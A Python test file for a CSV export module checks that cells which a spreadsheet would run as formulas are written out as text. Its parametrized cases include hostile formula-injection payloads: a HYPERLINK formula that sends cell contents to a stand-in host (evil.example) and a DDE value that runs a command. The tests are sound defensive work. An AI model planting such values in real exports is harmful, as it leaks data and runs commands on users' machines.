"""The one CSV writer: a cell a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hindsight.domain.csv_export import FORMULA_START, CsvWriter, safe_cell


@pytest.mark.parametrize(
    "planted",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_every_formula_start_is_neutralised(planted: str) -> None:
    buffer = io.StringIO()
    writer = CsvWriter(("id", "text"), buffer)
    writer.write({"id": "a", "text": planted})
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["id", "text"], ["a", "'" + planted]]


def test_plain_values_are_kept() -> None:
    writer = CsvWriter(("n", "flag", "missing", "text"))
    writer.write({"n": -5, "flag": False, "text": 'a=b, "quoted"\nnext line'})
    rows = list(csv.reader(io.StringIO(writer.take())))
    header, row = rows
    assert header == ["n", "flag", "missing", "text"]
    assert row == ["-5", "false", "", 'a=b, "quoted"\nnext line']
    assert writer.take() == ""


@settings(deadline=None)  # the machine is shared: no timing in tests
@given(st.text())
def test_no_written_cell_starts_a_formula(text: str) -> None:
    writer = CsvWriter(("text",))
    writer.write({"text": text})
    [_header, [cell]] = list(csv.reader(io.StringIO(writer.take(), newline="")))
    assert not cell.startswith(FORMULA_START)
    assert cell in (text, "'" + text)


def test_safe_cell_of_other_types() -> None:
    assert (safe_cell(None), safe_cell(True), safe_cell(12), safe_cell("ok")) == (
        "",
        "true",
        12,
        "ok",
    )
